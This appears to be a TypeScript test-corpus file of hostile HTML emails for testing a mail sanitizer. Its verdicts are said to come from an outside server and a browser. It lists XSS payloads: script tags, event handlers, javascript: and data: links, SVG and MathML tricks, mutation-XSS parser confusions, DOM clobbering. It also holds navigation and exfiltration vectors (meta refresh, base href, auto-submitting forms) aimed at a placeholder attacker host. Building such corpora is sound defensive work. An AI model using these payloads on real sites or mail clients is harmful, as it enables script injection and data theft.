import { hostileFetches } from "./hostile-fetches.ts";
import { hostileMixtures } from "./hostile-mixtures.ts";
import { type HostileLetter, letter, run } from "./letter.ts";

const scripts = [
  letter("script element", (evil) => `<script>${run(evil)}</script>`),
  letter("script from outside", (evil) => `<script src="${evil}/s.js"></script>`),
  letter("module script", (evil) => `<script type=module>import '${evil}/m.js'</script>`),
  letter("onerror of an image", (evil) => `<img src=x onerror="${run(evil)}">`),
  letter("onload of the body", (evil) => `<body onload="${run(evil)}">x</body>`),
  letter("ontoggle of details", (evil) => `<details open ontoggle="${run(evil)}">x</details>`),
  letter(
    "autofocus with onfocus",
    (evil) =>
      `<input autofocus onfocus="${run(evil)}"><a href="#" autofocus tabindex=1 onfocus="${run(evil)}">x</a>`,
  ),
  letter(
    "animation event",
    (evil) =>
      `<style>@keyframes a{from{color:red}}</style><b style="animation:a 1s" onanimationstart="${run(evil)}">x</b>`,
  ),
  letter("javascript link", (evil) => `<a href="javascript:${run(evil)}">press</a>`),
  letter("javascript link in disguise", (evil) => `<a href="&#106;ava\tscr&#10;ipt:${run(evil)}">press</a>`),
  letter("vbscript link", () => `<a href="vbscript:msgbox(1)">press</a>`),
  letter("data link", (evil) => `<a href="data:text/html,<script>${run(evil)}</script>">press</a>`),
  letter("javascript of an image", (evil) => `<img src="javascript:${run(evil)}">`),
  letter("svg onload", (evil) => `<svg onload="${run(evil)}"><circle r=9 /></svg>`),
  letter(
    "svg script",
    (evil) => `<svg><script href="${evil}/svg.js"></script><script>${run(evil)}</script></svg>`,
  ),
  letter(
    "svg animate of href",
    (evil) =>
      `<svg><a><animate attributeName=href values="javascript:${run(evil)}"/><text y=20>press</text></a></svg>`,
  ),
  letter(
    "svg foreignObject",
    (evil) =>
      `<svg><foreignObject><iframe src="${evil}/fo"></iframe><img src=x onerror="${run(evil)}"></foreignObject></svg>`,
  ),
  letter(
    "math action",
    (evil) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${run(evil)}">press</maction></math>`,
  ),
  letter("template", (evil) => `<template><img src="${evil}/t" onerror="${run(evil)}"></template>`),
  letter(
    "shadow root",
    (evil) =>
      `<div><template shadowrootmode=open><img src="${evil}/shadow" onerror="${run(evil)}"></template></div>`,
  ),
  letter(
    "srcdoc frame",
    (evil) => `<iframe srcdoc="<script>${run(evil)}</script><img src='${evil}/srcdoc'>"></iframe>`,
  ),
  letter(
    "custom element",
    (evil) => `<x-a onclick="${run(evil)}" is="x-b"><button is="x-c">x</button></x-a>`,
  ),
];

const mutations = [
  letter(
    "math style comment",
    (evil) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(evil)}&gt;">`,
  ),
  letter("svg style title", (evil) => `<svg></p><style><a id="</style><img src=x onerror=${run(evil)}>">`),
  letter(
    "form in form",
    (evil) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=${evil}/mx onerror=${run(evil)}>`,
  ),
  letter("noscript title", (evil) => `<noscript><p title="</noscript><img src=x onerror=${run(evil)}>">`),
  letter("xmp", (evil) => `<xmp><p title="</xmp><img src=${evil}/xmp onerror=${run(evil)}>">`),
  letter("noembed", (evil) => `<noembed><p title="</noembed><img src=${evil}/ne onerror=${run(evil)}>">`),
  letter(
    "noembed made of style",
    (evil) => `<style><p title="</noembed><img src=${evil}/ns onerror=${run(evil)}>"></style>`,
  ),
  letter(
    "comment end",
    (evil) =>
      `<!--><img src=${evil}/c1 onerror=${run(evil)}>--><!-- --!><img src=${evil}/c2 onerror=${run(evil)}>`,
  ),
  letter("cdata", (evil) => `<svg><![CDATA[><img src=${evil}/cd onerror=${run(evil)}>]]></svg>`),
  letter(
    "select style",
    (evil) => `<select><style></select><img src=${evil}/sel onerror=${run(evil)}></style>`,
  ),
  letter(
    "table foster",
    (evil) =>
      `<table><img src=${evil}/tab onerror=${run(evil)}><tr><td><script>${run(evil)}</script></table>`,
  ),
  letter("null bytes", (evil) => `<scr\0ipt>${run(evil)}</scr\0ipt><img sr\0c=x onerror="${run(evil)}">`),
  letter("slashes for spaces", (evil) => `<img/src=x/onerror=${run(evil)}><svg/onload=${run(evil)}>`),
  letter(
    "clobbered names",
    (evil) =>
      `<form name=attributes><input name=parentNode><input id=nodeName></form><img name=body src="${evil}/clob"><a id=documentElement>x</a>`,
  ),
  letter(
    "our own marks",
    (evil) =>
      `<a data-mail-link="0" href="${evil}/mark">a</a><img data-mail-image="0" src="${evil}/mi"><p data-mail-style="background:url(${evil}/ms)">x</p>`,
  ),
  letter("deep nesting", (evil) => `${"<div>".repeat(600)}<img src="${evil}/deep" onerror="${run(evil)}">`),
  letter("plaintext", (evil) => `<plaintext><img src=${evil}/pt onerror=${run(evil)}>`),
];

const navigations = [
  letter("meta refresh", (evil) => `<meta http-equiv=refresh content="0;url=${evil}/refresh"><p>x</p>`),
  letter(
    "meta cookie and policy",
    (evil) =>
      `<meta http-equiv=set-cookie content="a=b"><meta http-equiv=content-security-policy content="report-uri ${evil}/csp"><meta http-equiv=x-dns-prefetch-control content=on>`,
  ),
  letter("base", (evil) => `<base href="${evil}/" target=_top><a href="path">press</a><img src="rel.png">`),
  letter(
    "plain link pressed",
    (evil) =>
      `<a href="${evil}/pressed" target=_top>press</a><a href="${evil}/pressed2" target=_blank>press two</a>`,
  ),
  letter(
    "link over everything",
    (evil) => `<a href="${evil}/over" style="position:fixed;inset:0;z-index:99999;display:block">press</a>`,
  ),
  letter(
    "image map",
    (evil) =>
      `<map name=m><area href="${evil}/area" shape=default></map><img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=300 height=300>`,
  ),
  letter(
    "form sent by itself",
    (evil) =>
      `<form id=f action="${evil}/form" method=post><input name=a value=b><button autofocus>press</button></form><script>f.submit()</script>`,
  ),
  letter(
    "form with a press",
    (evil) =>
      `<form action="${evil}/form2"><input type=submit value=press><input type=image src="${evil}/fi"></form><button form=f formaction="${evil}/fa2">press</button>`,
  ),
  letter(
    "dialog form",
    (evil) =>
      `<dialog open><form method=dialog action="${evil}/dlg"><button>press</button></form></dialog><button popovertarget=p commandfor=p command=show-modal>press</button><div popover id=p>x</div>`,
  ),
  letter("download", (evil) => `<a href="${evil}/dl.exe" download>press</a>`),
];

/** Our own corpus. The verdict comes from an outside server and the browser, never from inspecting the sanitizer. */
export const hostileLetters: readonly HostileLetter[] = [
  ...scripts,
  ...mutations,
  ...hostileFetches,
  ...hostileMixtures,
  ...navigations,
];
